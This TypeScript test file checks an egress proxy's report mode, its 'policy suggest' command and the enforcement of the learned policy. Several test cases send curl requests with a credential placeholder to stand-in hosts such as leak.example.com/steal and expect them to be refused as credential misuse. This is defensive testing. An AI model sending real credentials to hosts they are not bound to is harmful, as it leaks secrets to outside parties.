// Report mode and `airlock policy suggest`, end to end: a session in mode: report through the real
// proxy with curl and real HTTPS upstreams on loopback (nothing is blocked, would-be denials are
// audited), then the built CLI learns a policy from that session's audit log, and a new enforcing
// session with the learned policy replays the session: exactly what was used is allowed, and
// anything next to it (another method, host or port) is denied.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import * as x509 from '@peculiar/x509';
import { createTestPki, rmTmp, runCli, runProcess, startAirlock, startHttpUpstream, startHttpsUpstream, tmpDir } from '../helpers/servers.js';
import type { AirlockHandle, AuditLine, TestPki, TestUpstream, UpstreamHandler } from '../helpers/servers.js';
import { credentialsFactory } from '../../src/credentials/sources.js';
import { parsePolicy } from '../../src/policy/index.js';
import type { Policy } from '../../src/policy/index.js';

const SECRET = 'real-api-secret-0123456789abcdef';
const PLACEHOLDER = 'airlock-api-placeholder-0000';
const NAME_CONSTRAINTS_OID = '2.5.29.30';
/** For tests that start the built CLI (about a second each, more on a loaded machine). */
const CLI_TIMEOUT = 30_000;

const REPORT_POLICY = `
version: 1
name: learn
mode: report
allow:
  - host: api.example.com      # allow[0]
    methods: [GET]
  - host: docs.example.com     # allow[1]
    paths: ["/public/*"]
  - host: alt.example.com      # allow[2] (default ports: 8443 is not allowed)
  - host: pinned.example.com   # allow[3]
    inspect: false
credentials:
  - name: api
    env: [API_TOKEN]
    placeholder: ${PLACEHOLDER}
    secret: { env: AIRLOCK_API_TOKEN }
    hosts: [api.example.com]
    in: [header]
limits:
  max_upload_bytes: 1048576
`;

interface Use {
  readonly name: string;
  readonly method: string;
  readonly url: string;
  readonly headers?: readonly string[];
  /** The audit line of the request (or, for the blind tunnel, of the CONNECT) in report mode. */
  readonly action: 'allow' | 'would_deny';
  readonly reason: string;
  readonly rule: string | null;
  /** The CONNECT's audit line in report mode; null for plain HTTP. */
  readonly tunnel: { action: 'allow' | 'would_deny'; reason: string } | null;
}

/** What the session does. Every path is unique, so each audit line can be found. */
const USED: Use[] = [
  { name: 'GET on a ruled host', method: 'GET', url: 'https://api.example.com/v1/items?page=2', action: 'allow', reason: 'allowed', rule: 'allow[0] api.example.com', tunnel: { action: 'allow', reason: 'allowed' } },
  { name: 'POST on a GET-only host', method: 'POST', url: 'https://api.example.com/v1/items', action: 'would_deny', reason: 'method_not_allowed', rule: 'allow[0] api.example.com', tunnel: { action: 'allow', reason: 'allowed' } },
  { name: 'GET with a credential placeholder on its bound host', method: 'GET', url: 'https://api.example.com/v1/me', headers: ['-H', `Authorization: Bearer ${PLACEHOLDER}`], action: 'allow', reason: 'allowed', rule: 'allow[0] api.example.com', tunnel: { action: 'allow', reason: 'allowed' } },
  { name: 'GET on a host with no rule', method: 'GET', url: 'https://cdn.example.com/lib.js', action: 'would_deny', reason: 'no_rule', rule: null, tunnel: { action: 'would_deny', reason: 'no_rule' } },
  { name: 'GET on a port the rule does not list (8443)', method: 'GET', url: 'https://alt.example.com:8443/status', action: 'would_deny', reason: 'port_not_allowed', rule: 'allow[2] alt.example.com', tunnel: { action: 'would_deny', reason: 'port_not_allowed' } },
  { name: 'GET on an allowed path', method: 'GET', url: 'https://docs.example.com/public/readme', action: 'allow', reason: 'allowed', rule: 'allow[1] docs.example.com', tunnel: { action: 'allow', reason: 'allowed' } },
  { name: 'GET outside the allowed paths', method: 'GET', url: 'https://docs.example.com/private/notes', action: 'would_deny', reason: 'path_not_allowed', rule: 'allow[1] docs.example.com', tunnel: { action: 'allow', reason: 'allowed' } },
  { name: 'plain HTTP on a host with no rule', method: 'GET', url: 'http://plain.example.com/index.html', action: 'would_deny', reason: 'no_rule', rule: null, tunnel: null },
  { name: 'an uninspected (blind) tunnel', method: 'GET', url: 'https://pinned.example.com/pinned', action: 'allow', reason: 'allowed', rule: 'allow[3] pinned.example.com', tunnel: { action: 'allow', reason: 'allowed' } },
];

function target(url: string): { host: string; port: number; path: string } {
  const u = new URL(url);
  return { host: u.hostname, port: Number(u.port || (u.protocol === 'https:' ? 443 : 80)), path: u.pathname };
}

let pki: TestPki;
const upstreams: Record<string, TestUpstream> = {};
let plain: TestUpstream;
let dir: string;
let reportPolicyFile: string;
let resolve: Record<string, number>;

/** Answers with what it saw, and whether the real secret (never the placeholder) arrived. */
const reportingHandler: UpstreamHandler = (req, res) => {
  req.resume();
  req.on('end', () => {
    const seen = JSON.stringify(req.headers);
    const body = JSON.stringify({ method: req.method, path: req.url, host: req.headers.host, sawSecret: seen.includes(SECRET), sawPlaceholder: seen.includes(PLACEHOLDER) });
    res.writeHead(200, { 'Content-Type': 'application/json', 'Content-Length': Buffer.byteLength(body) });
    res.end(body);
  });
};

/** Requests that reached any upstream so far. */
function upstreamRequests(): number {
  return Object.values(upstreams).reduce((n, u) => n + u.requests.length, 0) + plain.requests.length;
}

interface CurlResult {
  readonly code: number | null;
  /** Status of the CONNECT (0 when there was none). */
  readonly connect: number;
  readonly status: number;
  readonly body: string;
  readonly stderr: string;
}

async function curl(airlock: AirlockHandle, method: string, url: string, extra: readonly string[] = []): Promise<CurlResult> {
  const args = ['-sS', '--max-time', '10', '-X', method, '-w', '\n%{http_connect} %{http_code}', ...extra];
  if (method === 'POST' || method === 'PUT') args.push('-H', 'Content-Type: application/json', '--data', '{"x":1}');
  const r = await runProcess('curl', [...args, url], {
    // Only what curl needs: no NO_PROXY or proxy settings from the environment running the tests.
    env: { PATH: process.env.PATH, HTTPS_PROXY: airlock.proxyUrl, http_proxy: airlock.proxyUrl, CURL_CA_BUNDLE: airlock.bundlePath },
  });
  const lines = r.stdout.split('\n');
  const [connect, status] = (lines.pop() ?? '0 0').split(' ').map(Number);
  return { code: r.code, connect: connect ?? 0, status: status ?? 0, body: lines.join('\n'), stderr: r.stderr };
}

function startSession(policy: string): Promise<AirlockHandle> {
  return startAirlock({
    policy,
    resolve,
    upstreamCa: [pki.caPem],
    credentials: credentialsFactory({ AIRLOCK_API_TOKEN: SECRET }),
  });
}

beforeAll(async () => {
  pki = await createTestPki();
  for (const name of ['api.example.com', 'cdn.example.com', 'alt.example.com', 'docs.example.com', 'pinned.example.com']) {
    upstreams[name] = await startHttpsUpstream({ pki, names: [name], handler: reportingHandler });
  }
  // Hosts the session never uses; replaying must not reach them.
  upstreams.other = await startHttpsUpstream({ pki, names: ['other.example.com', 'leak.example.com'], handler: reportingHandler });
  plain = await startHttpUpstream({ handler: reportingHandler });
  resolve = {};
  // Every name on every port it might be asked for, so a refusal is the proxy's, not a dial error.
  for (const [name, upstream] of Object.entries(upstreams)) {
    const names = name === 'other' ? ['other.example.com', 'leak.example.com'] : [name];
    for (const n of names) for (const port of [443, 8443]) resolve[`${n}:${port}`] = upstream.port;
  }
  for (const n of ['plain.example.com', 'api.example.com', 'cdn.example.com']) resolve[`${n}:80`] = plain.port;
  dir = tmpDir('airlock-report-');
  reportPolicyFile = join(dir, 'report.yaml');
  writeFileSync(reportPolicyFile, REPORT_POLICY);
});

afterAll(async () => {
  await Promise.all([...Object.values(upstreams).map((u) => u.close()), plain?.close()]);
  rmTmp(dir, pki?.dir);
});

describe('mode: report, then policy suggest, then enforce', () => {
  let report: AirlockHandle;
  let suggested: string;

  afterAll(async () => {
    await report?.close();
  });

  it('report mode blocks nothing: every request gets its real upstream answer', async () => {
    report = await startSession(REPORT_POLICY);
    // Any host may be inspected in report mode, so the session CA carries no name constraints.
    const ca = new x509.X509Certificate(report.session.ca.certPem);
    expect(ca.getExtension(NAME_CONSTRAINTS_OID)).toBeNull();

    for (const use of USED) {
      const before = upstreamRequests();
      const r = await curl(report, use.method, use.url, use.headers);
      expect(r.status, `${use.name}: ${r.stderr}${r.body}`).toBe(200);
      expect(r.code).toBe(0);
      expect(upstreamRequests()).toBe(before + 1);
      const echoed = JSON.parse(r.body);
      expect(echoed).toMatchObject({ method: use.method, host: new URL(use.url).host });
      if (use.headers) expect(echoed).toMatchObject({ sawSecret: true, sawPlaceholder: false });
    }
  });

  it('audits every would-be denial as would_deny with its reason, the rest as allow', async () => {
    for (const use of USED) {
      const t = target(use.url);
      if (use.rule === 'allow[3] pinned.example.com') {
        // Uninspected: only the CONNECT is seen.
        const line = await report.waitForAudit((l) => l.kind === 'tunnel' && l.host === t.host);
        expect(line).toMatchObject({ action: use.action, reason: use.reason, rule: use.rule, status: 200 });
        continue;
      }
      const line = await report.waitForAudit((l) => l.kind === 'request' && l.method === use.method && l.host === t.host && l.port === t.port && l.path.split('?')[0] === t.path);
      expect(line, use.name).toMatchObject({ method: use.method, action: use.action, reason: use.reason, rule: use.rule, status: 200 });
      if (use.tunnel) {
        // CONNECT-level would_deny (no rule, port): the tunnel is still inspected, and its requests are would_deny too.
        const tunnel = await report.waitForAudit((l) => l.kind === 'tunnel' && l.host === t.host && l.port === t.port);
        expect(tunnel, use.name).toMatchObject({ action: use.tunnel.action, reason: use.tunnel.reason, status: 200 });
      }
    }
    const lines = await report.auditLines();
    expect(lines.filter((l) => l.action === 'deny')).toEqual([]);
    expect(lines.filter((l) => l.kind === 'request' && l.host === 'pinned.example.com')).toEqual([]);
    expect(new Set(lines.filter((l) => l.action === 'would_deny').map((l) => l.reason))).toEqual(
      new Set(['no_rule', 'method_not_allowed', 'path_not_allowed', 'port_not_allowed']),
    );
  });

  it('still refuses credential misuse in report mode (binding is not a policy rule)', async () => {
    const before = upstreamRequests();
    const auth = ['-H', `Authorization: Bearer ${PLACEHOLDER}`];
    // To a host the credential is not bound to (and that no rule allows)...
    const leak = await curl(report, 'GET', 'https://leak.example.com/steal', auth);
    expect(leak.status).toBe(403);
    expect(JSON.parse(leak.body)).toMatchObject({ reason: 'credential_misuse' });
    // ...and to its own host over plain HTTP.
    const cleartext = await curl(report, 'GET', 'http://api.example.com/cleartext', auth);
    expect(cleartext.status).toBe(403);
    expect(JSON.parse(cleartext.body)).toMatchObject({ reason: 'credential_misuse' });
    expect(upstreamRequests()).toBe(before);
    for (const path of ['/steal', '/cleartext']) {
      const line = await report.waitForAudit((l) => l.kind === 'request' && l.path === path);
      expect(line).toMatchObject({ action: 'deny', reason: 'credential_misuse', status: 403, credentials: [] });
    }
    await report.waitForAudit((l) => l.kind === 'tunnel' && l.host === 'leak.example.com');
  });

  it('policy suggest prints a least-privilege policy learned from the audit log', async () => {
    await report.auditLines(); // flush
    const r = await runCli(['policy', 'suggest', report.session.id, '--state-dir', report.stateDir, '--name', 'learned', '--from', reportPolicyFile]);
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    suggested = r.stdout;
    expect(suggested).toMatch(new RegExp(`^# Learned by \`airlock policy suggest\` from session ${report.session.id} on \\d{4}-\\d\\d-\\d\\dT`));
    expect(suggested).toContain(`kept from ${reportPolicyFile}`);
    expect(suggested).toMatch(/Not learned from .*credential_misuse 2/);

    const policy = parsePolicy(suggested, 'suggested.yaml');
    expect(policy).toMatchObject({ name: 'learned', mode: 'enforce', limits: { maxUploadBytes: 1048576 } });
    expect(policy.credentials.map((c) => [c.name, c.hosts, c.placeholder])).toEqual([['api', ['api.example.com'], PLACEHOLDER]]);
    expect(policy.allow.map((a) => ({ host: a.host, ports: a.ports, methods: a.methods, paths: a.paths, inspect: a.inspect }))).toEqual([
      { host: 'alt.example.com', ports: [8443], methods: ['GET'], paths: null, inspect: true },
      { host: 'api.example.com', ports: [443], methods: ['GET', 'POST'], paths: null, inspect: true },
      { host: 'cdn.example.com', ports: [443], methods: ['GET'], paths: null, inspect: true },
      { host: 'docs.example.com', ports: [443], methods: ['GET'], paths: null, inspect: true },
      { host: 'pinned.example.com', ports: [443], methods: null, paths: null, inspect: false },
      { host: 'plain.example.com', ports: [80], methods: ['GET'], paths: null, inspect: true },
    ]);
  }, CLI_TIMEOUT);

  it('policy suggest --paths lists the exact paths, without queries', async () => {
    const r = await runCli(['policy', 'suggest', report.session.id, '--state-dir', report.stateDir, '--paths']);
    expect(r.code).toBe(0);
    const policy: Policy = parsePolicy(r.stdout, 'suggested.yaml');
    expect(policy.name).toBe(`suggested-${report.session.id}`);
    expect(policy.credentials).toEqual([]);
    const paths = Object.fromEntries(policy.allow.map((a) => [a.host, a.paths]));
    expect(paths).toEqual({
      'alt.example.com': ['/status'],
      'api.example.com': ['/v1/items', '/v1/me'],
      'cdn.example.com': ['/lib.js'],
      'docs.example.com': ['/private/notes', '/public/readme'],
      'pinned.example.com': null,
      'plain.example.com': ['/index.html'],
    });
  }, CLI_TIMEOUT);

  it('policy suggest refuses unknown sessions and bad names with a usage error', async () => {
    const missing = await runCli(['policy', 'suggest', 's-000000000000', '--state-dir', report.stateDir]);
    expect(missing.code).toBe(2);
    expect(missing.stderr).toMatch(/no audit log for session s-000000000000/);
    const notAnId = await runCli(['policy', 'suggest', '../etc', '--state-dir', report.stateDir]);
    expect(notAnId.code).toBe(2);
    expect(notAnId.stderr).toMatch(/not a session id/);
    const badName = await runCli(['policy', 'suggest', report.session.id, '--state-dir', report.stateDir, '--name', 'no spaces']);
    expect(badName.code).toBe(2);
    expect(badName.stderr).toMatch(/policy name "no spaces" is not valid/);
  }, CLI_TIMEOUT);

  describe('the suggested policy, applied, allows exactly what the session used', () => {
    let enforce: AirlockHandle;

    beforeAll(async () => {
      const file = join(dir, 'suggested.yaml');
      writeFileSync(file, suggested);
      // The file is usable as is by the CLI too.
      const check = await runCli(['policy', 'check', file]);
      expect(check.code, check.stderr).toBe(0);
      enforce = await startSession(readFileSync(file, 'utf8'));
    }, CLI_TIMEOUT);

    afterAll(async () => {
      await enforce?.close();
    });

    it('the new session enforces, with a name-constrained CA', () => {
      expect(enforce.session.policy.mode).toBe('enforce');
      const ca = new x509.X509Certificate(enforce.session.ca.certPem);
      expect(ca.getExtension(NAME_CONSTRAINTS_OID)).not.toBeNull();
    });

    it.each(USED)('replays: $name → allowed', async (use) => {
      const before = upstreamRequests();
      const r = await curl(enforce, use.method, use.url, use.headers);
      expect(r.status, `${r.stderr}${r.body}`).toBe(200);
      expect(upstreamRequests()).toBe(before + 1);
      if (use.headers) expect(JSON.parse(r.body)).toMatchObject({ sawSecret: true, sawPlaceholder: false });
      const t = target(use.url);
      const line: AuditLine =
        use.rule === 'allow[3] pinned.example.com'
          ? await enforce.waitForAudit((l) => l.kind === 'tunnel' && l.host === t.host)
          : await enforce.waitForAudit((l) => l.kind === 'request' && l.method === use.method && l.host === t.host && l.port === t.port && l.path.split('?')[0] === t.path);
      expect(line).toMatchObject({ action: 'allow', reason: 'allowed' });
    });

    const OUTSIDE: { name: string; method: string; url: string; level: 'connect' | 'request'; reason: string }[] = [
      { name: 'another method on a used host', method: 'DELETE', url: 'https://api.example.com/v1/items/x1', level: 'request', reason: 'method_not_allowed' },
      { name: 'POST where only GET was used', method: 'POST', url: 'https://cdn.example.com/x2', level: 'request', reason: 'method_not_allowed' },
      { name: 'POST on a path-ruled host', method: 'POST', url: 'https://docs.example.com/public/x3', level: 'request', reason: 'method_not_allowed' },
      { name: 'another host', method: 'GET', url: 'https://other.example.com/x4', level: 'connect', reason: 'no_rule' },
      { name: 'the host the credential leaked to', method: 'GET', url: 'https://leak.example.com/x5', level: 'connect', reason: 'no_rule' },
      { name: 'another port on a used host', method: 'GET', url: 'https://api.example.com:8443/x6', level: 'connect', reason: 'port_not_allowed' },
      { name: 'the default port where only 8443 was used', method: 'GET', url: 'https://alt.example.com/x7', level: 'connect', reason: 'port_not_allowed' },
      { name: 'plain HTTP where only HTTPS was used', method: 'GET', url: 'http://cdn.example.com/x8', level: 'request', reason: 'port_not_allowed' },
      { name: 'HTTPS where only plain HTTP was used', method: 'GET', url: 'https://plain.example.com/x9', level: 'connect', reason: 'port_not_allowed' },
    ];

    it.each(OUTSIDE)('denies $name: $reason', async (row) => {
      const before = upstreamRequests();
      const r = await curl(enforce, row.method, row.url);
      if (row.level === 'connect' && r.connect === 200) {
        // A host outside every rule's subtree: refused inside TLS under the notice CA.
        expect(r.status).toBe(403);
        expect(r.body).toContain(`[${row.reason}]`);
      } else if (row.level === 'connect') {
        expect(r.connect).toBe(403);
        expect(r.code).not.toBe(0);
      } else {
        expect(r.status).toBe(403);
        expect(JSON.parse(r.body)).toMatchObject({ error: 'airlock_denied', reason: row.reason, policy: 'learned' });
      }
      expect(upstreamRequests()).toBe(before);
      const t = target(row.url);
      const line =
        row.level === 'connect'
          ? await enforce.waitForAudit((l) => l.kind === 'tunnel' && l.host === t.host && l.port === t.port && l.status === 403)
          : await enforce.waitForAudit((l) => l.kind === 'request' && l.path === t.path);
      expect(line).toMatchObject({ action: 'deny', reason: row.reason });
    });

    it('still refuses credential misuse', async () => {
      const r = await curl(enforce, 'GET', 'https://cdn.example.com/steal2', ['-H', `Authorization: Bearer ${PLACEHOLDER}`]);
      expect(r.status).toBe(403);
      expect(JSON.parse(r.body)).toMatchObject({ reason: 'credential_misuse' });
    });
  });
});
